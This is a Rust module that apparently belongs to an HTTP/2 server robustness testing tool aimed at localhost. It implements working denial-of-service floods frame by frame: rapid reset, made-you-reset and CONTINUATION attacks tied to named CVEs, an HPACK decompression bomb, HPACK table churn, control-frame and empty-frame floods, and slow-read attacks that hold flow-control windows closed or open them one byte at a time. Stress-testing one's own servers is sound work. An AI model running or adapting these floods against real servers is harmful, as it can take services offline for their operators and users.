//! Attacks over HTTP/2 in clear, by prior knowledge, frame by frame.

use std::io;
use std::time::Duration;

use tokio::time::{sleep, timeout};

use crate::attack::{Attack, Listener, Pace, Running, Session};
use crate::site::{SMALL, big_page};
use support::h2::{
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE,
    block, frame,
};

const PRIORITY: u8 = 2;
const LARGEST_WINDOW: u32 = 0x7fff_ffff;
const HEADER_TABLE_SIZE: u16 = 1;
const INITIAL_WINDOW_SIZE: u16 = 4;
/// What servers take without having said otherwise.
const LARGEST_FRAME: usize = 16 * 1024;
/// Frames that are sent at once.
const BATCH: u64 = 200;

const fn free(name: &'static str, title: &'static str, connections: usize, run: fn(Session) -> Running) -> Attack {
    Attack { name, title, on: Listener::Http2, connections, pace: Pace::Free, narrow: false, run }
}

pub(crate) const ATTACKS: &[Attack] = &[
    free("h2-rapid-reset", "rapid reset (CVE-2023-44487)", 8, |s| Box::pin(rapid_reset(s))),
    free("h2-made-you-reset", "made you reset (CVE-2025-8671)", 8, |s| Box::pin(made_you_reset(s))),
    free("h2-continuation", "CONTINUATION without end (CVE-2024-27316)", 8, |s| Box::pin(continuation(s))),
    free("h2-hpack-bomb", "HPACK: 16 KB that say 32 MB", 8, |s| Box::pin(hpack_bomb(s))),
    free("h2-hpack-churn", "HPACK: tables that change all the time", 8, |s| Box::pin(hpack_churn(s))),
    free("h2-settings", "SETTINGS", 8, |s| Box::pin(control(s, settings_frame))),
    free("h2-ping", "PING", 8, |s| Box::pin(control(s, |_| frame(PING, 0, 0, &[7; 8])))),
    free("h2-priority", "PRIORITY", 8, |s| Box::pin(control(s, priority_frame))),
    free("h2-goaway", "GOAWAY", 8, |s| Box::pin(control(s, |_| frame(GOAWAY, 0, 0, &[0; 8])))),
    free("h2-window-updates", "WINDOW_UPDATE", 8, |s| Box::pin(control(s, window_frame))),
    free("h2-empty-data", "empty DATA", 8, |s| Box::pin(empty_data(s))),
    free("h2-empty-headers", "empty HEADERS and CONTINUATION", 8, |s| Box::pin(empty_headers(s))),
    free("h2-pages", "large pages, `bytes=0-0`, 100 streams, one connection", 1, |s| Box::pin(requests(s, "GET"))),
    free("h2-heads", "HEADs, 100 streams, one connection", 1, |s| Box::pin(requests(s, "HEAD"))),
    free("h2-closed-windows", "identity pages, closed windows, 100 streams each", 100, |s| Box::pin(closed_windows(s))),
    free("h2-window-drip", "windows that open by one byte, 100 streams each", 50, |s| Box::pin(window_drip(s))),
];

/// Payload of SETTINGS.
fn settings(values: &[(u16, u32)]) -> Vec<u8> {
    values.iter().flat_map(|(name, value)| [&name.to_be_bytes()[..], &value.to_be_bytes()[..]].concat()).collect()
}

/// The connection preface, with this window for each stream and the largest for the connection.
async fn begin(session: &mut Session, window: u32) -> io::Result<()> {
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    bytes.extend(frame(SETTINGS, 0, 0, &settings(&[(INITIAL_WINDOW_SIZE, window), (HEADER_TABLE_SIZE, 4096)])));
    bytes.extend(frame(SETTINGS, ACK, 0, &[]));
    bytes.extend(frame(WINDOW_UPDATE, 0, 0, &(LARGEST_WINDOW - 65_535).to_be_bytes()));
    session.send(&bytes).await
}

fn head(method: &str, path: &str, more: &[(&str, &str)]) -> Vec<u8> {
    let fields = [(":method", method), (":scheme", "http"), (":path", path), (":authority", "localhost")];
    block(&[&fields[..], more].concat())
}

/// Streams of a client, from 1.
fn stream(n: u64) -> u32 {
    (n as u32 * 2 + 1) & LARGEST_WINDOW
}

/// Sends batches of what `make` puts into the buffer for each number from 0.
async fn batches(session: Session, mut make: impl FnMut(u64, &mut Vec<u8>)) -> io::Result<()> {
    let mut n = 0;
    session
        .flood(|buffer| {
            for _ in 0..BATCH {
                make(n, buffer);
                n += 1;
            }
            BATCH
        })
        .await
}

async fn rapid_reset(mut session: Session) -> io::Result<()> {
    begin(&mut session, LARGEST_WINDOW).await?;
    let head = head("GET", SMALL, &[]);
    batches(session, |n, buffer| {
        buffer.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream(n), &head));
        buffer.extend(frame(RST_STREAM, 0, stream(n), &8u32.to_be_bytes()));
    })
    .await
}

/// Each request is followed by a frame for which the server has to reset the stream itself.
async fn made_you_reset(mut session: Session) -> io::Result<()> {
    begin(&mut session, LARGEST_WINDOW).await?;
    let head = head("GET", &big_page(0), &[]);
    batches(session, |n, buffer| {
        let stream = stream(n);
        buffer.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, &head));
        buffer.extend(match n % 3 {
            0 => frame(WINDOW_UPDATE, 0, stream, &0u32.to_be_bytes()),
            1 => frame(WINDOW_UPDATE, 0, stream, &LARGEST_WINDOW.to_be_bytes()),
            _ => frame(DATA, END_STREAM, stream, b"x"),
        });
    })
    .await
}

async fn continuation(mut session: Session) -> io::Result<()> {
    begin(&mut session, LARGEST_WINDOW).await?;
    session.send(&frame(HEADERS, END_STREAM, 1, &head("GET", SMALL, &[]))).await?;
    let fields = block(&vec![("x-field", "0123456789012345678901234567890123456789"); 330]);
    let more = frame(CONTINUATION, 0, 1, &fields[..fields.len().min(LARGEST_FRAME)]);
    session
        .flood(|buffer| {
            buffer.extend_from_slice(&more);
            1
        })
        .await
}

/// A literal field that enters the dynamic table.
fn indexed(name: &str, value: &str) -> Vec<u8> {
    let mut bytes = block(&[(name, value)]);
    bytes[0] = 0x40;
    bytes
}

/// The newest entry of the dynamic table.
const NEWEST: u8 = 0x80 | 62;

async fn hpack_bomb(mut session: Session) -> io::Result<()> {
    begin(&mut session, LARGEST_WINDOW).await?;
    let request = head("GET", SMALL, &[]);
    let first = [&request[..], &indexed("x-bomb", &"b".repeat(3900))].concat();
    session.send(&frame(HEADERS, END_HEADERS | END_STREAM, 1, &first)).await?;
    let bomb = [&request[..], &vec![NEWEST; LARGEST_FRAME - request.len()]].concat();
    let mut n = 0;
    session
        .flood(|buffer| {
            n += 1;
            buffer.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream(n), &bomb));
            1
        })
        .await
}

async fn hpack_churn(mut session: Session) -> io::Result<()> {
    begin(&mut session, LARGEST_WINDOW).await?;
    // The table is emptied, then as large as before.
    let resized = [0x20, 0x3f, 0xe1, 0x1f];
    let request = head("HEAD", SMALL, &[]);
    let mut n = 0;
    session
        .flood(|buffer| {
            n += 1;
            let mut fields = [&resized[..], &request].concat();
            for field in 0..40 {
                fields.extend(indexed(&format!("x-{n}-{field}"), "0123456789012345678901234567890123456789"));
            }
            buffer.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream(n), &fields));
            1
        })
        .await
}

fn settings_frame(n: u64) -> Vec<u8> {
    frame(SETTINGS, 0, 0, &settings(&[(INITIAL_WINDOW_SIZE, 65_535 + n as u32 % 2)]))
}

fn priority_frame(n: u64) -> Vec<u8> {
    frame(PRIORITY, 0, stream(n % 1_000_000), &[&stream((n + 7) % 1000).to_be_bytes()[..], &[n as u8]].concat())
}

fn window_frame(_: u64) -> Vec<u8> {
    frame(WINDOW_UPDATE, 0, 0, &1u32.to_be_bytes())
}

/// Frames that ask for nothing.
async fn control(mut session: Session, make: fn(u64) -> Vec<u8>) -> io::Result<()> {
    // The connection's window has to have room for what is added.
    session.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
    session.send(&frame(SETTINGS, 0, 0, &[])).await?;
    batches(session, |n, buffer| buffer.extend(make(n))).await
}

async fn empty_data(mut session: Session) -> io::Result<()> {
    begin(&mut session, LARGEST_WINDOW).await?;
    session.send(&frame(HEADERS, END_HEADERS, 1, &head("POST", "/", &[]))).await?;
    batches(session, |_, buffer| buffer.extend(frame(DATA, 0, 1, &[]))).await
}

async fn empty_headers(mut session: Session) -> io::Result<()> {
    begin(&mut session, LARGEST_WINDOW).await?;
    session.send(&frame(HEADERS, 0, 1, &[])).await?;
    batches(session, |_, buffer| buffer.extend(frame(CONTINUATION, 0, 1, &[]))).await
}

/// Streams that a connection has open at once.
const STREAMS: u64 = 100;

/// Asks again as soon as an answer has ended, with 100 requests under way.
async fn requests(mut session: Session, method: &'static str) -> io::Result<()> {
    begin(&mut session, LARGEST_WINDOW).await?;
    let (mut n, mut due, mut frames) = (0, STREAMS, Frames::default());
    loop {
        let mut bytes = Vec::new();
        for _ in 0..due {
            let path = if method == "HEAD" { SMALL.to_owned() } else { big_page(n as usize) };
            let range = [("range", "bytes=0-0")];
            let more: &[(&str, &str)] = if method == "HEAD" { &[] } else { &range };
            bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream(n), &head(method, &path, more)));
            n += 1;
        }
        session.shared.units(due).await;
        session.send(&bytes).await?;
        due = 0;
        while due == 0 {
            due = frames.ended(&session.receive(64 * 1024).await?);
        }
    }
}

/// Frames that come in pieces.
#[derive(Debug, Default)]
struct Frames {
    ahead: Vec<u8>,
}

impl Frames {
    /// How many streams have ended in what came.
    fn ended(&mut self, bytes: &[u8]) -> u64 {
        self.ahead.extend_from_slice(bytes);
        let (mut at, mut ended) = (0, 0);
        while let Some(head) = self.ahead.get(at..at + 9) {
            let length = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
            if self.ahead.len() < at + 9 + length {
                break;
            }
            let (kind, flags) = (head[3], head[4]);
            let is_end = flags & END_STREAM != 0 && (kind == DATA || kind == HEADERS);
            ended += u64::from(is_end || kind == RST_STREAM);
            at += 9 + length;
        }
        self.ahead.drain(..at);
        ended
    }
}

/// 100 requests for large pages, none of which may be sent.
async fn ask_for_pages(session: &mut Session) -> io::Result<()> {
    begin(session, 0).await?;
    let from = session.number as u64 * STREAMS;
    for n in 0..STREAMS {
        let head = head("GET", &big_page((from + n) as usize), &[]);
        session.send(&frame(HEADERS, END_HEADERS | END_STREAM, stream(n), &head)).await?;
    }
    Ok(())
}

async fn closed_windows(mut session: Session) -> io::Result<()> {
    ask_for_pages(&mut session).await?;
    session.drain().await
}

async fn window_drip(mut session: Session) -> io::Result<()> {
    ask_for_pages(&mut session).await?;
    let mut updates = Vec::new();
    for n in 0..STREAMS {
        updates.extend(frame(WINDOW_UPDATE, 0, stream(n), &1u32.to_be_bytes()));
    }
    loop {
        session.send(&updates).await?;
        // What came is read, so that the server can send.
        while let Ok(read) = timeout(Duration::from_millis(1), session.receive(64 * 1024)).await {
            read?;
        }
        sleep(Duration::from_millis(50)).await;
    }
}
